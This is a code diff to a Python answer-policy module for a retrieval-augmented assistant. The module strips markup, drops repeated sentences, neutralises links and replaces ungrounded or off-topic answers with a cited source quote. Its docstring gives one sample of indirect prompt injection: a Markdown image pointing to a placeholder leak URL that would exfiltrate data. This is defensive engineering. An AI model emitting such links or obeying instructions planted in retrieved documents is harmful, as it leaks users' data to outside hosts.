@@ -4,22 +4,28 @@
 `AnswerPolicy.final`:
 
 1. Clean-up: the prompt's markup and chat-template tags the stop strings did not catch (a tag in
-   mid-sentence, a model that opens with `<documents>`), and a leading "The answer to this
-   question is:" are removed.
+   mid-sentence, a model that opens with `<documents>`), a leading "The answer to this
+   question is:", and sentences that only restate an earlier one (`without_repeats`) are removed.
 2. Safe links: a Markdown image or link, an autolink or a raw HTML tag is kept only as its text
    unless its target appears in the user's own sources (issue 26, point 7): a document carrying
    instructions cannot make the answer load `![x](http://host/leak?d=...)` in a client that
    renders Markdown.
 3. Grounded or quoted: the grounding check (answers/grounding.py) judges each sentence against the
-   sources. The answer is replaced by the passage of the sources that best matches the question,
-   quoted with its citation and marked `quote`, when nothing is left (the model echoed its prompt
-   or said nothing), when fewer than half of its sentences that make a claim are supported by the
-   sources (KEEP_SUPPORTED_SHARE), when it shares no content word with the question (a verbatim
-   passage about something else is "supported" but does not answer), when most of its sentences
-   are questions (a model listing a FAQ's headings), or when it writes an exact fact - a number, version, path, option, dotted
-   name or `code` (answers.grounding.exact_facts) - that neither the sources nor the question hold
-   (a small model invents commands: `CREATE_AUTOINCREMENT`, `git-gitfaq.php --creds`). So the reply is never empty or off the question when something relevant was
-   found, and an answer the sources do not back is not presented as fact.
+   sources. The answer is replaced by the passage of the sources that best matches the question
+   (`best_passage`), quoted with its citation and marked `quote`, when
+   - nothing is left (the model echoed its prompt or said nothing);
+   - fewer than half of its sentences that make a claim are supported by the sources
+     (KEEP_SUPPORTED_SHARE);
+   - it shares no content word with the question (a verbatim passage about something else is
+     "supported" but does not answer), or has none of its own (a bare yes or no: `adds_to`);
+   - its words come from another source much more than from the one holding that passage (it
+     answers the neighbouring FAQ entry: `from_the_passage`);
+   - most of its sentences are questions (a model listing a FAQ's headings);
+   - it writes an exact fact - a number, version, path, option, dotted name or `code`
+     (answers.grounding.exact_facts) - that neither the sources nor the question hold (a small
+     model invents commands: `CREATE_AUTOINCREMENT`, `git-gitfaq.php --creds`).
+   So the reply is never empty or off the question when something relevant was found, and an
+   answer the sources do not back is not presented as fact.
 """
 from __future__ import annotations
 
@@ -28,14 +34,17 @@ from collections.abc import Sequence
 from dataclasses import dataclass
 from typing import Any
 
-from answers.grounding import GroundingChecker, content_words, invented_facts
+from answers.grounding import MIN_CONTENT_WORDS, GroundingChecker, content_words, invented_facts
 from common.text import sentences_of
 from llm.settings import GenerationOverrides
 from rag.retriever import Source
 
 GENERATED, QUOTE, NO_CONTEXT = "generated", "quote", "no_context"
 QUOTE_SENTENCES = 2
+QUOTE_PIECES = 8  # lines or sentences in a quote at most, however few of them end a sentence
 KEEP_SUPPORTED_SHARE = 0.5  # a generated answer stands when at least this share of its claims is backed
+ELSEWHERE_MARGIN = 0.25  # from_the_passage: how much more of an answer another source may hold
+RESTATES_SHARE = 0.8  # a sentence with this share of its content words from the question only restates it
 MORE_SENTENCES_FACTOR = 3  # a question that asks for a list, the steps or an explanation
 _ASKS_FOR_MORE = re.compile(r"\b(?:list|steps?|all|every|each|in detail|detailed|explain|describe|summari[sz]e|overview"
                             r"|examples?|compare|differences?|options)\b", re.IGNORECASE)
@@ -49,6 +58,8 @@ _LINK = re.compile(r"(?<!!)\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\
 _AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|file|data|javascript):[^>\s]*)>", re.IGNORECASE)
 _BARE_URL = re.compile(r"(?<![\w(<\[`/])((?:https?|ftp|file)://[^\s<>()\[\]`]+|www\.[^\s<>()\[\]`]+)",
                        re.IGNORECASE)
+_ENDS_SENTENCE = re.compile(r"[.!?:;][\"')\]]*$")
+_NUMBERING = re.compile(r"^\s*(?:\(\d+\)|\d+(?:\.\d+)*[.:)]?)\s")  # a FAQ entry's "(26) " or "3.22: "
 _TAG_START = re.compile(r"<(?=[A-Za-z/!?])")
 _HTML_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9-]*(?:\s[^<>]*)?/?>")
 
@@ -79,6 +90,28 @@ def clean(text: str) -> str:
     """The answer without the prompt's markup, chat-template tags, a leading "The answer is:" or
     "Question: ..." line, or a tag it ended inside of."""
     return _OPEN_TAG.sub("", _PREFACE.sub("", _MARKUP.sub("", text))).strip()
+
+
+def without_repeats(text: str) -> str:
+    """The answer less the sentences that say again what an earlier one said (all their content
+    words, at least MIN_CONTENT_WORDS, already in one earlier sentence): a small model that runs out
+    of things to say restates its first sentence in other orders until the loop guard stops it.
+    Lines of a ``` code block are kept as they are."""
+    kept: list[set[str]] = []
+    pieces: list[str] = []
+    written = 0
+    for sentence, start, end in sentences_of(text):
+        words = content_words(sentence)
+        in_code = text.count("```", 0, start) % 2 == 1
+        if not in_code and len(words) >= MIN_CONTENT_WORDS and any(words <= earlier for earlier in kept):
+            pieces.append(text[written:start])
+            written = end + len(text[end:]) - len(text[end:].lstrip(" \t"))
+            continue
+        kept.append(words)
+    if not pieces:
+        return text.strip()
+    pieces.append(text[written:])
+    return re.sub(r"[ \t]+\n", "\n", re.sub(r"\n{3,}", "\n\n", "".join(pieces))).strip()
 
 
 def neutralise(text: str, sources_text: str) -> str:
@@ -114,23 +147,55 @@ def best_passage(question: str, sources: Sequence[Source]) -> tuple[int, str]:
     """(1-based source number, passage): the sentence of the sources sharing the most content words
     with the question - its own words and those of its section's heading, so that under a heading
     that asks the question (a FAQ's entry, a manual's "How to ...") the answer is what follows it -
-    (the earlier sentence, then the higher-ranked source on a tie), with the sentences after it up to
-    QUOTE_SENTENCES; the top source's first sentences when none shares any. A question in the
-    sources (a FAQ's heading) is where the answer starts, not the answer: the quote begins after it,
-    and a chunk's own section heading is not quoted."""
+    and what follows it up to QUOTE_SENTENCES whole sentences (`_quote_end`); the top source's first
+    sentences when none shares any. A question in the sources (a FAQ's heading) is where the answer
+    starts, not the answer: the quote begins after it (`_answer_start`), and a chunk's own section
+    heading is not quoted. On a tie, the passage the chunk holds whole wins (overlapping chunks cut
+    it short), then the earlier sentence, then the higher-ranked source."""
     wanted = content_words(question)
     best: tuple[float, int, int] = (-1.0, 1, 0)  # score, source number, first sentence quoted
     passages: dict[int, list[str]] = {}
     for number, source in enumerate(sources, start=1):
-        passages[number] = [text for text, _, _ in sentences_of(_without_heading(source))]
+        passages[number] = sentences = [text for text, _, _ in sentences_of(_without_heading(source))]
         heading = wanted & content_words(source.section or "")
-        for index, sentence in enumerate(passages[number]):
-            start = index + 1 if sentence.endswith("?") else index
-            score = len(heading | (wanted & content_words(sentence))) - 0.01 * number
-            if start < len(passages[number]) and score > best[0]:
+        for index, sentence in enumerate(sentences):
+            start = _answer_start(wanted, sentences, index)
+            if start >= len(sentences):
+                continue
+            whole = sum(1 for text in sentences[start:_quote_end(sentences, start)] if _ENDS_SENTENCE.search(text))
+            score = len(heading | (wanted & content_words(sentence))) + 0.1 * whole - 0.01 * number
+            if score > best[0]:
                 best = (score, number, start)
     _, number, start = best
-    return number, " ".join(passages.get(number, [])[start:start + QUOTE_SENTENCES])
+    sentences = passages.get(number, [])
+    return number, " ".join(sentences[start:_quote_end(sentences, start)])
+
+
+def _quote_end(sentences: Sequence[str], start: int) -> int:
+    """Where a quote from sentence `start` ends: after QUOTE_SENTENCES sentences that end as a
+    sentence does - a PDF's line breaks split sentences into lines, which are not counted - or
+    QUOTE_PIECES pieces at most."""
+    whole, end = 0, start
+    while end < len(sentences) and end - start < QUOTE_PIECES and whole < QUOTE_SENTENCES:
+        whole += bool(_ENDS_SENTENCE.search(sentences[end]))
+        end += 1
+    return end
+
+
+def _answer_start(wanted: set[str], sentences: Sequence[str], index: int) -> int:
+    """Where an answer found at sentence `index` starts: past the sentences there that ask a question
+    or restate the question asked (a FAQ's heading, split into sentences or over lines, is where the
+    answer begins, not the answer)."""
+    while index < len(sentences) and (sentences[index].endswith("?") or restates(wanted, sentences[index])):
+        index += 1
+    return index
+
+
+def restates(wanted: set[str], text: str) -> bool:
+    """Whether `text` says nothing but the question's own words (RESTATES_SHARE of its content words,
+    its numbering as a FAQ entry left out, are among `wanted`, the question's)."""
+    words = content_words(_NUMBERING.sub("", text))
+    return bool(words) and len(words & wanted) >= RESTATES_SHARE * len(words)
 
 
 def _without_heading(source: Source) -> str:
@@ -140,9 +205,8 @@ def _without_heading(source: Source) -> str:
     return text[len(heading):] if heading and text.startswith(heading) and len(text) > len(heading) else text
 
 
-def quoted(question: str, sources: Sequence[Source]) -> str:
-    """The best passage as a Markdown quote, with its citation."""
-    number, passage = best_passage(question, sources)
+def quoted(sources: Sequence[Source], number: int, passage: str) -> str:
+    """`passage` of source `number` (1-based; `best_passage`) as a Markdown quote, with its citation."""
     source = sources[number - 1]
     where = f", page {source.page}" if source.page is not None else ""
     where += f", {source.section}" if source.section else ""
@@ -224,6 +288,26 @@ def on_the_question(question: str, answer: str, given: str) -> bool:
             and not invented_facts(answer, given))
 
 
+def adds_to(question: str, answer: str) -> bool:
+    """Whether the answer says something the question did not: a content word of its own. "No, there
+    are no known size limits" only restates "Are there any known size limits?" with a yes or a no,
+    which no source can be checked for."""
+    return bool(content_words(answer) - content_words(question))
+
+
+def from_the_passage(answer: str, sources: Sequence[Source], number: int) -> bool:
+    """Whether the answer's words come from source `number` (the one holding the passage that best
+    matches the question) about as much as from any other: within ELSEWHERE_MARGIN of the share of
+    its content words found in the most-matched other source. An answer drawn from a neighbouring
+    chunk - the next FAQ entry, another command's section - answers a neighbouring question."""
+    words = content_words(answer)
+    if not words or len(sources) < 2:
+        return True
+    shares = [len(words & content_words(source.text)) / len(words) for source in sources]
+    elsewhere = max(share for index, share in enumerate(shares, start=1) if index != number)
+    return elsewhere - shares[number - 1] <= ELSEWHERE_MARGIN
+
+
 def addresses(question: str, answer: str) -> bool:
     """Whether the answer shares a content word with the question (any, for a question without one)."""
     wanted = content_words(question)
@@ -239,12 +323,15 @@ class AnswerPolicy:
     def final(self, question: str, text: str, sources: Sequence[Source], asked_as: str | None = None) -> FinalAnswer:
         """`asked_as`: a follow-up's standalone form (with its subject), used to choose the quote."""
         sources_text = texts_of(sources)
-        answer = neutralise(clean(text), sources_text).strip()
+        answer = without_repeats(neutralise(clean(text), sources_text))
         if not sources:
             return FinalAnswer(answer, GENERATED)
-        if on_the_question(question, answer, f"{sources_text}\n{question}"):
+        asked = asked_as or question
+        number, passage = best_passage(asked, sources)
+        if (on_the_question(question, answer, f"{sources_text}\n{question}") and adds_to(asked, answer)
+                and from_the_passage(answer, sources, number)):
             grounding = self._grounding.check(answer, sources).as_dict()
             share = grounding["supported_share"]
             if share is None or share >= KEEP_SUPPORTED_SHARE:  # most claims backed, or none made
                 return FinalAnswer(answer, GENERATED, grounding)
-        return FinalAnswer(quoted(asked_as or question, sources), QUOTE)
+        return FinalAnswer(quoted(sources, number, passage), QUOTE)
